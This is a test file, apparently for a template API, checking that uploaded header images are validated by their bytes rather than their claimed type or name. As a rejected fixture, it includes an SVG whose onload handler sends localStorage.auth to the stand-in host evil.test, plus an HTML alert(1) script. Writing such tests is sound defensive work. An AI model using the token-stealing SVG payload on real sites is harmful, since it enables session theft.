import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../../../../../test-support/test-app';
import { signedInUser } from '../auth/auth-test-helpers';
import { PNG, templateMultipart } from './templates-test-helpers';

// Header files are checked by their bytes, not by what the browser or the file name claims.
let t: TestApp;
let headers: Record<string, string>;

beforeAll(async () => {
  t = await startTestApp();
  const owner = await signedInUser(t, 'media-content@acme.test');
  headers = { authorization: `Bearer ${owner.accessToken}`, 'x-waba-id': owner.business.waba_id };
});
afterAll(() => t.close());

const imageTemplate = (name: string) => ({
  name,
  language: 'en_US',
  category: 'MARKETING',
  components: [
    { type: 'HEADER', format: 'IMAGE' },
    { type: 'BODY', text: 'Look at this.' },
  ],
  static_variables: {},
  dynamic_variables: {},
});

function create(name: string, file: { name: string; type: string; bytes: Buffer }) {
  const body = templateMultipart(imageTemplate(name), file);
  return t.app.inject({
    method: 'POST',
    url: '/meta/templates/',
    headers: { ...headers, ...body.headers },
    payload: body.payload,
  });
}

const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(`//evil.test/?t=${localStorage.auth}`)"></svg>',
);
const uploadsAtSandbox = async () =>
  ((await (await fetch(`${t.sandboxUrl}/__sandbox/state`)).json()) as { uploads: unknown[] }).uploads.length;
const storedTemplates = async () =>
  (await t.db.pool.query('select count(*)::int as n from templates')).rows[0].n as number;

describe('template header files', () => {
  it('refuses an SVG named x.png and sent as image/png with 400 naming header_file; nothing stored or uploaded', async () => {
    const [templatesBefore, uploadsBefore] = [await storedTemplates(), await uploadsAtSandbox()];
    const response = await create('svg_as_png', { name: 'x.png', type: 'image/png', bytes: SVG });
    expect(response.statusCode).toBe(400);
    expect(response.json().errors).toEqual([
      {
        field: 'header_file',
        message: 'header_file is not a PNG image (its content does not match its type)',
      },
    ]);
    expect(await storedTemplates()).toBe(templatesBefore);
    expect(await uploadsAtSandbox()).toBe(uploadsBefore);
  });

  it('refuses PNG bytes sent as image/jpeg and an HTML page sent as an octet stream named x.jpg', async () => {
    const asJpeg = await create('png_as_jpeg', { name: 'photo.jpg', type: 'image/jpeg', bytes: PNG });
    expect(asJpeg.statusCode).toBe(400);
    expect(asJpeg.json().errors[0]).toEqual({
      field: 'header_file',
      message: 'header_file is not a JPEG image (its content does not match its type)',
    });
    const html = Buffer.from('<!doctype html><html><script>alert(1)</script></html>');
    const named = await create('html_as_jpg', {
      name: 'x.jpg',
      type: 'application/octet-stream',
      bytes: html,
    });
    expect(named.statusCode).toBe(400);
    expect(named.json().errors[0].message).toBe(
      'header_file is not a JPEG image (its content does not match its name)',
    );
  });

  it('accepts a real PNG and serves it back as image/png', async () => {
    const response = await create('real_png', { name: 'sale.png', type: 'image/png', bytes: PNG });
    expect(response.statusCode).toBe(201);
    const detail = (
      await t.app.inject({ method: 'GET', url: `/meta/templates/${response.json().id}/`, headers })
    ).json();
    const media = await t.app.inject({ method: 'GET', url: detail.media_url, headers });
    expect(media.headers['content-type']).toBe('image/png');
    expect(media.rawPayload.equals(PNG)).toBe(true);
  });
});
